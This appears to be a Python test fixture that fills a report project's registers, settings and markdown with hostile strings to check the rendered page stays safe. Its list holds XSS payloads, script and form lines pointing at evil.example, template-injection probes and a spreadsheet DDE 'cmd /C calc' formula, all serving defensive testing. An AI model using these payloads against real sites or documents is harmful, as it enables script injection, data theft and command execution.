"""Text that would do harm if a page took it for markup, and a project that is full of it."""

import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pandas as pd
import yaml
from scrutiny import build_report, render, run
from scrutiny.project import Project

ROOT = Path(__file__).parents[1]
TRACKER = "recommendation-tracker/2013-06"

HOSTILE = [
    # markup that runs
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</textarea></pre><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)><animate onbegin=alert(6)>",
    "<svg><desc><![CDATA[</desc><script>alert(7)</script>]]></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=x>",
    "<math><mtext></mtext><a xlink:href=javascript:alert(8)>x</a></math>",
    "<body onload=alert(9)>",
    "<details open ontoggle=alert(10)>",
    "<input autofocus onfocus=alert(11)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>go</button></form>",
    "<template><script>alert(12)</script></template>",
    # the ends of things
    "<!-- a comment that is never closed",
    "--> the end of one",
    "]]> the end of raw text",
    '"><b>out of an attribute</b>',
    "' onmouseover='alert(13)",
    "</td></tr></table><h1>another heading</h1>",
    "</svg></figure></main>",
    '<data value="burglary.mps.count.12m">1</data>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "url(https://evil.example/y.png)",
    # addresses
    "[a link](javascript:alert(14))",
    "[a link](java&#x73;cript:alert(15))",
    "[a link](data:text/html,<script>alert(16)</script>)",
    "[a link](vbscript:msgbox(1))",
    "![a picture](https://evil.example/spy.png)",
    "<javascript:alert(17)>",
    # templates, entities and formulas
    "{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "{# a comment #} ${7*7} #{7*7}",
    "&lt;script&gt;alert(18)&lt;/script&gt;",
    "&#60;script&#62;alert(19)&#60;/script&#62;",
    "&NewLine;&colon;&amp;amp;",
    '=HYPERLINK("https://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1; -1+1",
    # what is not seen
    "a\u202eright to left\u202c b",
    "zero\u200bwidth\ufeff and \u2066isolated\u2069",
    "control \x01\x08\x0b\x1b\x7f\x85 characters",
    "separators\u2028of\u2029lines",
    # what is too long, and what says it is broken
    "W" * 400,
    "Traceback (most recent call last): File x.py",
    "No description has been provided for this image",
]
BRACES = "{{ config.items() }} and {{{ 7*7 }}}"
IN_A_ROW = HOSTILE[:19]  # one for each recommendation
ELSEWHERE = HOSTILE[19:38]  # one for each answer
LAST = HOSTILE[-19:]


def hostile_project(root):
    """A project in the folder ``root`` whose registers, edition and texts are hostile."""
    for folder in ("templates", "notebooks", "data/registers", f"params/{TRACKER}"):
        shutil.copytree(ROOT / folder, root / folder)
    (root / "data" / "sample").mkdir()
    shutil.copy2(ROOT / "data" / "limits.yml", root / "data")
    registers = root / "data" / "registers"
    change = _register(registers / "recommendations.csv")
    change = change[change["year"] == "2013"]
    whole = change["parent"] == ""
    change.loc[whole, "text"] = IN_A_ROW
    change.loc[~whole, "text"] = BRACES
    change.loc[whole, "addressee"] = LAST
    change.loc[whole, "asked_for"] = ELSEWHERE
    change.to_csv(registers / "recommendations.csv", index=False)
    history = _register(registers / "recommendation-history.csv")
    history = history[history["reference"].isin(change["reference"])]
    judged = history["event"] == "judged"
    history.loc[judged, "response"] = ELSEWHERE
    history.loc[judged, "offered_for"] = IN_A_ROW
    history.loc[judged, "next_check"] = BRACES
    history.to_csv(registers / "recommendation-history.csv", index=False)
    papers = _register(registers / "documents.csv")
    papers["title"] = f"{HOSTILE[1]} {BRACES} {HOSTILE[3]}"
    papers["publisher"] = HOSTILE[4]
    papers.to_csv(registers / "documents.csv", index=False)
    edition = root / "params" / TRACKER
    settings = yaml.safe_load((edition / "edition.yml").read_text("utf-8"))
    settings["title"] = f"{HOSTILE[2]} {BRACES} {HOSTILE[42]}"
    (edition / "edition.yml").write_text(yaml.safe_dump(settings, allow_unicode=True), "utf-8")
    listed = "\n\n".join(f"- {line}" for line in HOSTILE)
    headed = "\n\n".join(f"#### {line}" for line in HOSTILE)
    (edition / "introduction.md").write_text(f"# \n\n{headed}\n\n{listed}\n", "utf-8")
    (edition / "rule.md").write_text("\n\n".join(HOSTILE), "utf-8")
    return Project(root=root, params=root / "params")


def hostile_page(project, folder):
    """The page of that project, its notebook executed in ``folder`` as a build does."""
    executed = folder / "recommendation-tracker-2013-06.ipynb"
    given = project, "recommendation-tracker", {"edition": "2013-06"}, executed
    # Aside, as the loop of events of a browser that is open for other tests runs in this thread.
    with run.environment(project), ThreadPoolExecutor(1) as aside:
        aside.submit(run.execute, *given).result()
    report = build_report("recommendation-tracker", "2013-06", project=project)
    return render.page(project, report, executed)


def _register(path):
    return pd.read_csv(path, dtype=str, keep_default_na=False)
